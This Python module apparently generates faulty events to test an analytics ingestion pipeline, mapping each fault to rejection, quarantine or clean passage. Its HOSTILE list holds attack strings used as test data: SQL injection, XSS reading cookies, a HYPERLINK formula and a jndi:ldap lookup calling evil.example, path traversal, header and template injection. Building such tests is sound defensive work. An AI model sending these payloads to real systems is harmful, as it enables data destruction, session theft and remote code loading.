"""What goes wrong with an event's content, and what must become of it. How often is in `rates`; delivery in `generate`.

Each fault knows its outcome by the contract's words alone, so that the truth does not depend on the pipeline's code.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from random import Random
from typing import Any, Literal, NamedTuple

import msgspec

Event = dict[str, Any]
Fate = Literal["clean", "rejected", "quarantined"]

HOSTILE = (
    "'; DROP TABLE fct_events; --",
    '=HYPERLINK("http://evil.example","click")',
    "<script>alert(document.cookie)</script>",
    "\u202eevitcurtsed\u202c \u200b\ufeff",
    "line one\r\nSet-Cookie: a=b\n\ttab",
    "nul \u0000 inside",
    "👩‍👩‍👧‍👦 ᚠᛇᚻ 日本語 عربى e\u0301",
    "../../../../etc/passwd",
    "%00%ff%zz${jndi:ldap://evil.example/a}{{7*7}}",
    "\\N \\. \\x00 \"quoted\" 'single' `tick`",
    "x" * 8_000,
)
"""Strings that have broken something somewhere. All are valid and must come out as they went in."""


class Fault(NamedTuple):
    """One way in which an event is wrong: which events it can befall, what it does to them, what must happen then."""

    name: str
    befalls: Callable[[Event], bool]
    change: Callable[[Event, Random], Event | bytes]
    fate: Fate = "clean"
    reason: str | None = None


def encode(event: Event | bytes) -> bytes:
    """One line of JSON."""
    return event if isinstance(event, bytes) else msgspec.json.encode(event)


def _malformed(event: Event, rng: Random) -> bytes:
    line = encode(event)
    cut = line[: rng.randint(len(line) // 3, len(line) - 1)]
    return cut.decode(errors="ignore").encode()  # half a character would be invalid UTF-8, another fault


def _wrong_type(event: Event, rng: Random) -> Event:
    name, value = rng.choice(
        (
            ("event_id", 4711),
            ("page", "https://www.plotto.example/"),
            ("sequence", "seven"),
            ("occurred_at", 1_764_000_000),
            ("properties", ["not", "an", "object"]),
            ("consent", True),
        )
    )
    return event | {name: value}


def _missing_field(event: Event, rng: Random) -> Event:
    gone = rng.choice((("event_id",), ("event",), ("platform",), ("anonymous_id", "user_id")))
    return {name: value for name, value in event.items() if name not in gone}


def _invalid_value(event: Event, rng: Random) -> Event:
    name, value = rng.choice(
        (
            ("platform", "toaster"),
            ("occurred_at", "yesterday at noon"),
            ("event_id", ""),
            ("schema_version", 0),
            ("event", "page\nview"),
            ("session_id", "s" * 129),
        )
    )
    return event | {name: value}


def _invalid_utf8(event: Event, rng: Random) -> bytes:
    return encode(event).replace(b'"platform"', b'"note":"caf\xe9 \xff","platform"', 1)


def _not_an_object(event: Event, rng: Random) -> bytes:
    return rng.choice((b'["page_view"]', b'"page_view"', b"42"))


def _too_large(event: Event, rng: Random) -> Event:
    blob: Event = {"blob": rng.randbytes(35_000).hex()} if rng.random() < 0.5 else {f"key_{n}": n for n in range(600)}
    return event | {"properties": event.get("properties", {}) | blob}


def _too_deep(event: Event, rng: Random) -> Event:
    nested: Any = "core"
    for _ in range(30):
        nested = {"in": nested}
    return event | {"properties": event.get("properties", {}) | {"nested": nested}}


def _unknown_event(event: Event, rng: Random) -> Event:
    return event | {"event": rng.choice(("site_archived", "Order Refunded", "$pageleave"))}


def _extra_field(event: Event, rng: Random) -> Event:
    drifted = copy.copy(event)
    drifted["experiment_group"] = "b"
    drifted["properties"] = event.get("properties", {}) | {"utm_id": "a1", "rank": rng.random(), "huge": 2**70}
    if "device" in event:
        drifted["device"] = event["device"] | {"battery": 0.83}
    return drifted


def _plan_warning(event: Event, rng: Random) -> Event:
    change = {"search": {"query": None}, "add_to_cart": {"quantity": "2"}, "page_view": {"page_type": "hologram"}}
    return event | {"properties": event["properties"] | change[event["event"]]}


def _is_paid_and_judged(event: Event) -> bool:
    """What is left of an event whose person refused analytics has no properties that could be judged."""
    return _named(*_MONEY)(event) and (event.get("consent") or {}).get("analytics") is not False


def _plan_quarantine(event: Event, rng: Random) -> Event:
    changes: tuple[Event, ...] = ({"currency": "DOGE"}, {"order_id": 12, "subscription_id": 12, "plan": None})
    if event["event"] == "purchase":
        changes += ({"revenue": str(event["properties"]["revenue"])}, {"revenue": -1})
    if event["event"] == "subscription_cancelled":
        changes = ({"reason": "because"}, {"ends_at": "soon"})
    return event | {"properties": event["properties"] | rng.choice(changes)}


def _plan_reject(event: Event, rng: Random) -> Event:
    return event | {"properties": {}}


def _hostile(event: Event, rng: Random) -> Event:
    text = rng.choice(HOSTILE)
    page = event.get("page", {})
    return event | {"page": page | {"title": text}, "properties": event.get("properties", {}) | {"note": text}}


def _any(event: Event) -> bool:
    return True


def _named(*names: str) -> Callable[[Event], bool]:
    return lambda event: event["event"] in names


_MONEY = ("purchase", "subscription_started", "subscription_cancelled")

FAULTS: tuple[Fault, ...] = (
    Fault("malformed", _any, _malformed, "rejected", "malformed_json"),
    Fault("wrong_type", _any, _wrong_type, "rejected", "wrong_type"),
    Fault("missing_field", _any, _missing_field, "rejected", "missing_field"),
    Fault("invalid_value", _any, _invalid_value, "rejected", "invalid_value"),
    Fault("invalid_utf8", _any, _invalid_utf8, "rejected", "invalid_utf8"),
    Fault("not_an_object", _any, _not_an_object, "rejected", "not_an_object"),
    Fault("too_large", _any, _too_large, "rejected", "too_large"),
    Fault("too_deep", _any, _too_deep, "rejected", "too_deep"),
    Fault("plan_reject", _named("alias"), _plan_reject, "rejected", "plan_violation"),
    Fault("plan_quarantine", _is_paid_and_judged, _plan_quarantine, "quarantined", "plan_violation"),
    Fault("plan_warning", _named("search", "add_to_cart", "page_view"), _plan_warning),
    Fault("unknown_event", _named("site_published", "template_selected", "search"), _unknown_event),
    Fault("extra_field", _any, _extra_field),
    Fault("hostile", _any, _hostile),
)
"""Every fault of content, in the order in which an event is asked for it; it gets the first that befalls it."""
